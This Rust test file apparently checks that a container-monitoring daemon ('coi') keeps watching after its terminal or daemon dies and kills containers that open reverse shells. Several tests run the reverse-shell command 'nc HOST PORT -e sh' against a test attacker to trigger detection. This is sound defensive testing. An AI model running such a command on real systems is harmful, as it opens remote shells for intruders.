//! Nobody looks after it any more: the terminal is gone, or never was; the watch goes on.

use coi_tests::incus::{self, exec};
use coi_tests::{Attacker, Coi, Gate, TINY, Viewer, actions, eventually};
use nix::sys::signal::Signal;
use nix::unistd::Pid;
use serde_json::json;

#[test]
fn the_command_line_is_killed() {
    let coi = Coi::new();
    let name = coi.container();
    let here = Gate::new(&coi, "here");
    let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", "read x <here; exec sleep 1000"]);
    // As long as this is held, the script goes no further.
    let _here = here.reached();
    run.signal(Signal::SIGKILL);
    run.finish().expect(137);

    let viewer = Viewer::attach(&coi, &name);
    let (_, watch) = coi.ask(&format!("/v1/watches/{name}"));
    assert_eq!((&watch["state"], &watch["respond"]), (&json!("running"), &json!(true)));
    let attacker = Attacker::on_bridge();
    let attack = attacker.fill("nc HOST PORT -e sh");
    let mut attack = exec(&name, "/workspace", &["sh", "-c", &attack]).spawn().unwrap();
    viewer.until_state("killed");
    assert_eq!(incus::instance(&name), None);
    assert_eq!(
        actions(&coi.audit(&name)),
        [("reverse-shell-socket".into(), "kill".into(), "success".into())]
    );
    attack.wait().unwrap();
}

#[test]
fn a_daemon_that_the_command_line_started() {
    let coi = Coi::without_daemon();
    let gate = Gate::new(&coi, "gate");
    let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", "read x <gate; exit 3"]);
    gate.reached().open();
    run.finish().expect(3);
    // It outlives its starter.
    let (_, status) = coi.ask("/v1/status");
    assert_eq!((&status["watches"], status["pid"].as_i64()), (&json!(0), coi.daemon().pid().map(pid)));
    coi.run(TINY, &["true"]).expect(0);
    let (_, again) = coi.ask("/v1/status");
    assert_eq!(again["pid"], status["pid"], "the one that runs is used");
}

#[test]
fn the_daemon_is_killed() {
    let coi = Coi::with_daemon(&[]);
    let name = coi.container();
    let (here, go) = (Gate::new(&coi, "here"), Gate::new(&coi, "go"));
    let attacker = Attacker::on_bridge();
    let script = attacker.fill("read x <here; read x <go; nc HOST PORT -e sh");
    let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", &script]);
    let here = here.reached();
    coi.daemon().kill();
    // The command line has another one started, which finds the watch again before it answers.
    eventually("another daemon watches it", || {
        coi.daemon().pid().is_some() && coi.ask(&format!("/v1/watches/{name}")).0 == 200
    });
    here.open();
    go.reached().open();
    // Whether the command line looks on again before the attack is over or finds it over, it says what became of it.
    coi.assert_killed(run.finish(), "reverse-shell-socket");
}

fn pid(pid: Pid) -> i64 {
    pid.as_raw().into()
}

/// The harness asserts so after every test; here it is asserted of everything that leaves traces.
#[test]
fn nothing_is_left() {
    let coi = Coi::with_daemon(&[]);
    coi.run(TINY, &["true"]).expect(0);
    let attacker = Attacker::on_bridge();
    let ended = coi.run(TINY, &["sh", "-c", &attacker.fill("nc HOST PORT -e sh")]);
    coi.assert_killed(ended, "reverse-shell-socket");
    let watch = coi.start(&["watch", "--", "sh", "-c", "sleep 1000 & exit 0"]);
    let cgroup = incus::cgroups().join(format!("coi.watch-{}", watch.pid()));
    watch.finish().expect(0);
    assert!(!cgroup.exists());
    // Containers, mounts and cgroups; the daemon's socket, programs and maps.
    drop(coi);
}
